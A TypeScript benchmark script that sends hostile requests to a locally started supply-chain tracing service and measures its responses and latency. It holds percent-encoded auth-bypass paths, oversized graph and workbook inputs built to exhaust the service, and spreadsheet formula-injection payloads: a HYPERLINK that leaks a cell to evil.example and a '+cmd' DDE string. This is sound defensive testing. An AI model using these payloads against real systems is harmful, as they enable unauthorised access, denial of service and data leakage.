/**
 * Hostile inputs (`npm run bench:hostile`, also run by `npm run bench`): the requests of the
 * "Trust" issue, each sent over HTTP to a fresh service (`oretrace serve`, embedded store, demo
 * data), with `GET /health` polled back to back on another connection meanwhile. For each case:
 * its answer (status), the time the client waited, and the worst `/health` latency while it ran
 * (how long every other user of the service waited). A request is cut after --cut seconds
 * (default 60): an old service may work on it for hours.
 *
 *   --root=DIR   start the service of another checkout (an older commit, with node_modules), so
 *                that before and after are measured side by side in one run on one machine
 *   --out=FILE   results file (default bench/results/hostile.json)
 *   --only=a,b   case ids
 *
 * Prints a table and writes [{name, value, unit, target, better, note}] like the other benchmarks.
 * The rate limit is off in the service (RATE_LIMIT_PER_MINUTE=0) but for the bad-key case.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { hashApiKey } from '../../server/access/api-keys.js';
import { PROJECT_ROOT } from '../../server/seeding/reference-data.js';
import { openXlsx } from '../../server/importers/cmrt/workbook-guard.js';
import { buildZip, sheetXml } from '../../test/server/importers/cmrt/zip-fixtures.js';
import { startService, type Service } from '../lib/service.js';
import type { ResultRow as Row } from '../lib/types.js';

const args = process.argv.slice(2);
const arg = (name: string) => args.find((a) => a.startsWith(`--${name}=`))?.slice(name.length + 3);
const ROOT = resolve(arg('root') ?? PROJECT_ROOT);
const OUT = resolve(arg('out') ?? join(PROJECT_ROOT, 'bench', 'results', 'hostile.json'));
const CUT_MS = Number(arg('cut') ?? 60) * 1000;
const ONLY = arg('only')?.split(',');
const log = (line: string) => process.stderr.write(`${line}\n`);

const EDITOR_KEY = 'hostile-bench-editor-key-0123456789';
const KEYED_ENV = { API_KEYS: `bench:editor:${hashApiKey(EDITOR_KEY)}`, READ_ACCESS: 'keyed' };

interface Answer {
  status: number;
  body: string;
}

interface Outcome {
  /** What the case counts as its figure when it is not a time (e.g. requests let through). */
  count?: { value: number; unit: string; target: number };
  status: string;
}

interface HostileCase {
  id: string;
  what: string;
  env?: Record<string, string>;
  /** Everything before the timed part (imports), not timed. */
  setup?: (base: string) => Promise<void>;
  run: (base: string) => Promise<Outcome>;
}

async function send(base: string, path: string, init: RequestInit = {}): Promise<Answer> {
  const response = await fetch(`${base}${path}`, { ...init, signal: AbortSignal.timeout(CUT_MS) });
  return { status: response.status, body: await response.text() };
}

async function sendOrCut(base: string, path: string, init: RequestInit = {}): Promise<string> {
  try {
    return String((await send(base, path, init)).status);
  } catch (err) {
    if (err instanceof Error && err.name === 'TimeoutError') return `cut after ${CUT_MS / 1000} s`;
    throw err;
  }
}

async function importGraph(base: string, document: unknown): Promise<void> {
  const answer = await send(base, '/api/v1/imports/graph', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(document),
  });
  if (answer.status >= 300) throw new Error(`import: ${answer.status} ${answer.body.slice(0, 300)}`);
}

type Doc = { nodes: object[]; relationships: object[] };
const company = (id: string) => ({ label: 'Company', id, name: id, country: 'DE' });
const supplies = (from: string, to: string, share?: number) => ({
  type: 'SUPPLIES',
  from,
  to,
  metal: 'tin',
  ...(share === undefined ? {} : { share }),
});

/** F ← tier 1 ← … ← tier `tiers`, every company of a tier buying from every one of the next; a non-conformant smelter on top. */
export function lattice(perTier: number, tiers: number): Doc {
  const id = (t: number, i: number) => `L${t}-${i}`;
  const nodes: object[] = [
    company('F'),
    { label: 'Smelter', id: 'S-top', name: 'Top smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' },
  ];
  const relationships: object[] = [supplies('CD', 'S-top')];
  for (let t = 1; t <= tiers; t++) {
    for (let i = 0; i < perTier; i++) {
      nodes.push(company(id(t, i)));
      if (t === 1) relationships.push(supplies(id(t, i), 'F'));
      if (t === tiers) relationships.push(supplies('S-top', id(t, i)));
      else for (let j = 0; j < perTier; j++) relationships.push(supplies(id(t + 1, j), id(t, i)));
    }
  }
  return { nodes, relationships };
}

/** Stages of three companies, each buying a third from each company of the next stage; smelters a third from each of three countries. */
function equalSplitStages(stages: number): Doc {
  const third = 1 / 3;
  const id = (s: number, i: number) => `ST${s}-${i}`;
  const nodes: object[] = [];
  const relationships: object[] = [];
  const countries = [
    ['CD', 'RW', 'CN'],
    ['BR', 'CD', 'ID'],
    ['MY', 'RW', 'PE'],
  ];
  for (let i = 0; i < 3; i++) {
    nodes.push({ label: 'Smelter', id: `SS-${i}`, name: `Stage smelter ${i}`, metal: 'tin', country: 'MY', rmapStatus: 'conformant' });
    for (const c of countries[i]!) relationships.push(supplies(c, `SS-${i}`, third));
  }
  for (let s = 0; s < stages; s++) {
    for (let i = 0; i < 3; i++) {
      nodes.push(company(id(s, i)));
      for (let j = 0; j < 3; j++) relationships.push(supplies(s === stages - 1 ? `SS-${j}` : id(s + 1, j), id(s, i), third));
    }
  }
  return { nodes, relationships };
}

/** A chain of `depth` companies down from one smelter. */
function deepChain(depth: number): Doc {
  const nodes: object[] = [
    { label: 'Smelter', id: 'S-chain', name: 'Chain smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' },
  ];
  const relationships: object[] = [supplies('CD', 'S-chain'), supplies('S-chain', 'C0')];
  for (let i = 0; i < depth; i++) {
    nodes.push(company(`C${i}`));
    if (i > 0) relationships.push(supplies(`C${i}`, `C${i - 1}`));
  }
  return { nodes, relationships };
}

/** One buyer with `width` companies as sources, each from one smelter. */
function wideBuyer(width: number): Doc {
  const nodes: object[] = [
    company('W'),
    { label: 'Smelter', id: 'S-wide', name: 'Wide smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' },
  ];
  const relationships: object[] = [supplies('CD', 'S-wide')];
  for (let i = 0; i < width; i++) {
    nodes.push(company(`W${i}`));
    relationships.push(supplies(`W${i}`, 'W'), supplies('S-wide', `W${i}`));
  }
  return { nodes, relationships };
}

/** One strongly connected component: a ring of `size` companies with chords, fed by one smelter. */
function giantScc(size: number): Doc {
  const nodes: object[] = [
    { label: 'Smelter', id: 'S-ring', name: 'Ring smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' },
  ];
  const relationships: object[] = [supplies('CD', 'S-ring'), supplies('S-ring', 'R0')];
  for (let i = 0; i < size; i++) {
    nodes.push(company(`R${i}`));
    relationships.push(supplies(`R${(i + 1) % size}`, `R${i}`));
    if (i % 3 === 0) relationships.push(supplies(`R${(i + Math.floor(size / 2)) % size}`, `R${i}`));
  }
  return { nodes, relationships };
}

function analysisRuns(companyId: string): (base: string) => Promise<Outcome> {
  return async (base) => {
    const statuses: string[] = [];
    for (const route of ['origins', 'risk', 'risk-paths', 'single-points-of-failure']) {
      statuses.push(`${route} ${await sendOrCut(base, `/api/v1/companies/${companyId}/${route}?metal=tin`)}`);
    }
    return { status: statuses.join(', ') };
  };
}

/**
 * A real filled CMRT with a 32,767-character mine-location cell (column O, Excel's longest cell) in
 * every smelter row: the Smelter List's XML edited in place (exceljs cannot write these files back).
 */
async function cmrtWithHugeMineCells(): Promise<Buffer> {
  const cell = 'scrap x '.repeat(4096).slice(0, 32_767).trimEnd();
  let rows = 0;
  const entries = (await realCmrtEntries()).map((entry) => {
    // The Smelter List is the 5th sheet of CMRT 6.x (xl/worksheets/sheet5.xml in RMI's files).
    if (entry.name !== 'xl/worksheets/sheet5.xml') return entry;
    const xml = entry.data.toString('utf8').replace(/<row r="(\d+)"[^>]*>.*?<\/row>/gs, (row, r: string) => {
      if (Number(r) < 5 || !new RegExp(`<c r="B${r}"[^>]*t="s"><v>`).test(row)) return row;
      rows++;
      return row.replace(
        new RegExp(`<c r="O${r}"([^>]*?)(?: t="\\w+")?(?:/>|>.*?</c>)`),
        `<c r="O${r}"$1 t="inlineStr"><is><t>${cell}</t></is></c>`,
      );
    });
    return { name: entry.name, data: Buffer.from(xml, 'utf8') };
  });
  log(`hostile: the CMRT has ${rows} smelter rows with a 32,767-character mine-location cell`);
  return buildZip(entries);
}

/** The parts of a real filled CMRT (RMI's template, filled by a supplier: ../shared/data). */
async function realCmrtEntries(): Promise<Array<{ name: string; data: Buffer }>> {
  const file = join(PROJECT_ROOT, '..', 'shared', 'data', 'cmrt-filled', 'cmrt-6.4_jx-advanced-metals_2024-05-30.xlsx');
  const pkg = await openXlsx(readFileSync(file), { fileName: 'cmrt.xlsx' });
  const entries: Array<{ name: string; data: Buffer }> = [];
  for (const name of pkg.entries.keys()) {
    const chunks: Buffer[] = [];
    for await (const chunk of pkg.chunks(name)) chunks.push(chunk);
    entries.push({ name, data: Buffer.concat(chunks) });
  }
  return entries;
}

/** A real filled CMRT plus a 1.6 M-cell sheet under a name the workbook never references. */
async function cmrtWithHiddenSheet(): Promise<Buffer> {
  const rows = (function* () {
    for (let r = 0; r < 100_000; r++) {
      const row: Record<string, string> = {};
      for (const c of 'ABCDEFGHIJKLMNOP') row[c] = `${c}${r}`;
      yield row;
    }
  })();
  return buildZip([...(await realCmrtEntries()), { name: 'xl/worksheets/sheet99.xml.bak', data: sheetXml(rows) }]);
}

function multipart(parts: Array<{ name: string; filename?: string; data: Buffer | string }>): { body: Buffer; type: string } {
  const boundary = 'hostile-bench-boundary';
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disposition = `form-data; name="${p.name}"${p.filename ? `; filename="${p.filename}"` : ''}`;
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${p.filename ? 'Content-Type: application/octet-stream\r\n' : ''}\r\n`,
      ),
      Buffer.from(p.data),
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), type: `multipart/form-data; boundary=${boundary}` };
}

async function postCmrt(base: string, workbook: Buffer): Promise<string> {
  const form = multipart([{ name: 'file', filename: 'hostile.xlsx', data: workbook }]);
  return sendOrCut(base, '/api/v1/imports/cmrt?company=aurelia-group&dryRun=true', {
    method: 'POST',
    headers: { 'content-type': form.type },
    body: new Uint8Array(form.body),
  });
}

/** A request line in absolute form, which fetch cannot send: over a raw socket. */
function rawRequest(base: string, head: string, body: string): Promise<number> {
  const { hostname, port } = new URL(base);
  return new Promise((resolvePromise, reject) => {
    const socket = connect(Number(port), hostname, () =>
      socket.write(
        `${head}\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\nconnection: close\r\n\r\n${body}`,
      ),
    );
    let text = '';
    socket.on('data', (d) => (text += d.toString('latin1')));
    socket.on('close', () => resolvePromise(Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0)));
    socket.on('error', reject);
  });
}

async function aSmelterId(base: string): Promise<string> {
  const page = await send(base, '/api/v1/smelters?limit=1', { headers: { authorization: `Bearer ${EDITOR_KEY}` } });
  return encodeURIComponent((JSON.parse(page.body) as { items: Array<{ id: string }> }).items[0]!.id);
}

/** A CMRT upload whose workbook is built in the setup, so that building it is not timed (nor stalls the /health poll). */
function cmrtCase(id: string, what: string, build: () => Promise<Buffer>): HostileCase {
  let workbook: Buffer | undefined;
  return {
    id,
    what,
    setup: async () => {
      workbook = await build();
    },
    run: async (base) => ({ status: await postCmrt(base, workbook!) }),
  };
}

const SMELTER_NAME = (i: number) => `q${'a'.repeat(480)}${i.toString(16).padStart(4, '0')}`;

/** 2,000 tin smelters whose names (at the 200-character cap) differ in their last 4 characters, and a worst-case query for them. */
const CAP_SMELTERS = () =>
  Array.from({ length: 2000 }, (_, i) => ({
    label: 'Smelter',
    id: `CAP-${i}`,
    name: `q${'a'.repeat(195)}${i.toString(16).padStart(4, '0')}`,
    metal: 'tin',
    country: 'CN',
  }));
const CAP_QUERY = `q${'a'.repeat(185)}zz${'a'.repeat(12)}`;

const CASES: HostileCase[] = [
  {
    id: 'keys-bypass',
    what: 'writes and keyed reads without a key: percent-encoded paths and an absolute-form request line',
    env: KEYED_ENV,
    run: async (base) => {
      const json = { 'content-type': 'application/json' };
      const attempts: Array<() => Promise<number>> = [
        async () =>
          (await send(base, '/%61pi/v1/companies/x', { method: 'PUT', headers: json, body: JSON.stringify({ name: 'X', country: 'DE' }) }))
            .status,
        async () => (await send(base, '/%61pi/v1/companies/aurelia-group', { method: 'DELETE' })).status,
        async () => (await send(base, '/%61pi/v1/export?format=json')).status,
        async () =>
          (
            await send(base, `/%61pi/v1/smelters/${await aSmelterId(base)}/name-decisions`, {
              method: 'POST',
              headers: json,
              body: JSON.stringify({ name: 'n', decision: 'reject' }),
            })
          ).status,
        () =>
          rawRequest(
            base,
            'POST http://x/api/v1/imports/graph HTTP/1.1',
            JSON.stringify({ nodes: [company('bypass')], relationships: [] }),
          ),
      ];
      const statuses = [];
      for (const attempt of attempts) statuses.push(await attempt());
      const through = statuses.filter((s) => s >= 200 && s < 300).length;
      return { status: statuses.join(', '), count: { value: through, unit: 'requests let through', target: 0 } };
    },
  },
  {
    id: 'bad-keys-rate-limited',
    what: '200 requests with a wrong key, rate limit 100/min: how many were answered 429',
    env: { ...KEYED_ENV, RATE_LIMIT_PER_MINUTE: '100' },
    run: async (base) => {
      const statuses = new Map<number, number>();
      for (let i = 0; i < 200; i++) {
        const s = (await send(base, '/api/v1/companies', { headers: { authorization: 'Bearer wrong-key' } })).status;
        statuses.set(s, (statuses.get(s) ?? 0) + 1);
      }
      return {
        status: [...statuses].map(([s, n]) => `${n}× ${s}`).join(', '),
        count: { value: statuses.get(429) ?? 0, unit: 'answered 429', target: 100 },
      };
    },
  },
  {
    id: 'origins-equal-splits',
    what: 'GET origins of every company of a 12-stage network of equal thirds: answers that were not 200',
    setup: (base) => importGraph(base, equalSplitStages(12)),
    run: async (base) => {
      let failed = 0;
      const seen = new Set<string>();
      for (let s = 0; s < 12; s++)
        for (let i = 0; i < 3; i++) {
          const status = await sendOrCut(base, `/api/v1/companies/ST${s}-${i}/origins?metal=tin`);
          seen.add(status);
          if (status !== '200') failed++;
        }
      return { status: [...seen].join(', '), count: { value: failed, unit: 'of 36 not 200', target: 0 } };
    },
  },
  {
    id: 'risk-paths-lattice-10x7',
    what: 'GET risk-paths?limit=10 on a 10×7 lattice',
    setup: (base) => importGraph(base, lattice(10, 7)),
    run: async (base) => ({ status: await sendOrCut(base, '/api/v1/companies/F/risk-paths?metal=tin&limit=10') }),
  },
  {
    id: 'risk-paths-lattice-20x7',
    what: 'GET risk-paths?limit=10 on a 20×7 lattice',
    setup: (base) => importGraph(base, lattice(20, 7)),
    run: async (base) => ({ status: await sendOrCut(base, '/api/v1/companies/F/risk-paths?metal=tin&limit=10') }),
  },
  {
    id: 'deep-chain-10000',
    what: 'origins, risk, risk-paths, SPOF at the end of a 10,000-deep chain',
    setup: (base) => importGraph(base, deepChain(10_000)),
    run: analysisRuns('C9999'),
  },
  {
    id: 'wide-buyer-100000',
    what: 'origins, risk, risk-paths, SPOF of a buyer with 100,000 sources',
    setup: (base) => importGraph(base, wideBuyer(100_000)),
    run: analysisRuns('W'),
  },
  {
    id: 'giant-scc-5000',
    what: 'origins, risk, risk-paths, SPOF inside one 5,000-company strongly connected component',
    setup: (base) => importGraph(base, giantScc(5_000)),
    run: analysisRuns('R0'),
  },
  {
    id: 'smelter-match-long-names',
    what: 'GET smelter-matches with a 485-character name among 2,000 tin smelters of 485 characters',
    setup: async (base) => {
      const nodes = Array.from({ length: 2000 }, (_, i) => ({
        label: 'Smelter',
        id: `LONG-${i}`,
        name: SMELTER_NAME(i),
        metal: 'tin',
        country: 'CN',
      }));
      const answer = await send(base, '/api/v1/imports/graph', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ nodes, relationships: [] }),
      });
      log(`hostile: importing 2,000 smelters of 485 characters: ${answer.status}`);
    },
    run: async (base) => ({
      status: await sendOrCut(base, `/api/v1/smelter-matches?metal=tin&name=q${'a'.repeat(470)}zz${'a'.repeat(12)}`),
    }),
  },
  {
    id: 'smelter-match-names-at-cap',
    what: 'GET smelter-matches with a 200-character name among 2,000 tin smelters of 200 characters',
    setup: async (base) => {
      const nodes = Array.from({ length: 2000 }, (_, i) => ({
        label: 'Smelter',
        id: `CAP-${i}`,
        name: `q${'a'.repeat(195)}${i.toString(16).padStart(4, '0')}`,
        metal: 'tin',
        country: 'CN',
      }));
      await importGraph(base, { nodes, relationships: [] });
    },
    run: async (base) => ({
      status: await sendOrCut(base, `/api/v1/smelter-matches?metal=tin&name=q${'a'.repeat(185)}zz${'a'.repeat(12)}`),
    }),
  },
  {
    id: 'smelter-match-after-decision-at-cap',
    what: 'a name decision (a write), then the first GET smelter-matches after it, among 2,000 tin smelters of 200 characters (the resolver is rebuilt for the new version)',
    setup: async (base) => {
      await importGraph(base, { nodes: CAP_SMELTERS(), relationships: [] });
      // A match before the write, so that the timed one pays for the rebuild, not the first build.
      await send(base, `/api/v1/smelter-matches?metal=tin&name=${CAP_QUERY}`);
    },
    run: async (base) => {
      const decision = await sendOrCut(base, '/api/v1/smelters/CAP-0/name-decisions', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ name: 'Cap smelter zero', decision: 'confirm' }),
      });
      return { status: `decision ${decision}, match ${await sendOrCut(base, `/api/v1/smelter-matches?metal=tin&name=${CAP_QUERY}`)}` };
    },
  },
  cmrtCase(
    'cmrt-huge-mine-cells',
    'dry-run CMRT import, a 32,767-character mine-location cell in every smelter row',
    cmrtWithHugeMineCells,
  ),
  cmrtCase(
    'workbook-hidden-sheet',
    'CMRT import of a real CMRT with a 1.6 M-cell sheet named xl/worksheets/sheet99.xml.bak',
    cmrtWithHiddenSheet,
  ),
  {
    id: 'cmrt-25-fields',
    what: 'CMRT import with 25 form fields',
    run: async (base) => {
      const form = multipart(Array.from({ length: 25 }, (_, i) => ({ name: `field${i}`, data: 'x' })));
      return {
        status: await sendOrCut(base, '/api/v1/imports/cmrt?company=aurelia-group&dryRun=true', {
          method: 'POST',
          headers: { 'content-type': form.type },
          body: new Uint8Array(form.body),
        }),
      };
    },
  },
  {
    id: 'csv-formulas',
    what: 'CSV export of a company named =HYPERLINK(…) with a tag +cmd|…: cells that start with = + - @',
    setup: (base) =>
      importGraph(base, {
        nodes: [{ ...company('evil'), name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', tags: ["+cmd|' /C calc'!A0"] }],
        relationships: [],
      }),
    run: async (base) => {
      const answer = await send(base, '/api/v1/export?format=csv&part=nodes');
      const cells = answer.body.split(/\r?\n/).flatMap((line) => line.split(','));
      const formulas = cells.filter((c) => /^"?[=+\-@\t\r]/.test(c)).length;
      return { status: String(answer.status), count: { value: formulas, unit: 'formula cells', target: 0 } };
    },
  },
];

/** GET /health back to back until stopped; the worst latency seen. */
function pollHealth(base: string): { stop: () => Promise<number> } {
  let running = true;
  let worst = 0;
  const loop = (async () => {
    while (running) {
      const started = performance.now();
      await new Promise<void>((done) => {
        const req = httpRequest(`${base}/health`, { agent: false }, (res) => {
          res.resume();
          res.on('end', () => done());
        });
        req.on('error', () => done());
        req.end();
      });
      worst = Math.max(worst, performance.now() - started);
      await new Promise((r) => setTimeout(r, 5));
    }
  })();
  return {
    stop: async () => {
      running = false;
      await loop;
      return worst;
    },
  };
}

async function runCase(c: HostileCase, dataRoot: string): Promise<Row[]> {
  const dataDir = join(dataRoot, c.id);
  const service: Service = await startService({ root: ROOT, dataDir, env: { SEED_DEMO: 'true', ...c.env } });
  try {
    if (c.setup) await c.setup(service.base);
    // A first analysis compiles the snapshot: do it before the timing, as a running service would have.
    await send(
      service.base,
      '/api/v1/companies/aurelia-group/origins?metal=tin',
      c.env?.API_KEYS ? { headers: { authorization: `Bearer ${EDITOR_KEY}` } } : {},
    );
    const health = pollHealth(service.base);
    const started = performance.now();
    const outcome = await c.run(service.base);
    const ms = performance.now() - started;
    const worst = await health.stop();
    log(`hostile: ${c.id}: ${outcome.status} in ${Math.round(ms)} ms, /health worst ${Math.round(worst)} ms`);
    const note = `${c.what}; answered ${outcome.status}`;
    const rows: Row[] = [
      { name: `hostile.${c.id}.time`, value: Math.round(ms), unit: 'ms', target: null, better: 'lower', note },
      { name: `hostile.${c.id}.health-worst`, value: Math.round(worst), unit: 'ms', target: 100, better: 'lower' },
    ];
    if (outcome.count)
      rows.push({
        name: `hostile.${c.id}.count`,
        value: outcome.count.value,
        unit: outcome.count.unit,
        target: outcome.count.target,
        better: c.id === 'bad-keys-rate-limited' ? 'higher' : 'lower',
      });
    return rows;
  } finally {
    await service.stop();
  }
}

async function main(): Promise<void> {
  const dataRoot = await mkdtemp(join(tmpdir(), 'oretrace-hostile-'));
  const rows: Row[] = [];
  try {
    for (const c of CASES) {
      if (ONLY && !ONLY.includes(c.id)) continue;
      try {
        rows.push(...(await runCase(c, dataRoot)));
      } catch (err) {
        log(`hostile: ${c.id} failed: ${err instanceof Error ? err.message : String(err)}`);
        rows.push({
          name: `hostile.${c.id}.time`,
          value: NaN,
          unit: 'ms',
          target: null,
          better: 'lower',
          note: `failed: ${err instanceof Error ? err.message : String(err)}`,
        });
      }
    }
  } finally {
    await rm(dataRoot, { recursive: true, force: true });
  }
  mkdirSync(dirname(OUT), { recursive: true });
  writeFileSync(OUT, `${JSON.stringify(rows, null, 2)}\n`);
  for (const r of rows)
    process.stdout.write(`${r.name.padEnd(48)} ${String(r.value).padStart(8)} ${r.unit}${r.note ? `  (${r.note})` : ''}\n`);
  log(`hostile: service of ${ROOT}; results in ${OUT}`);
}

await main();
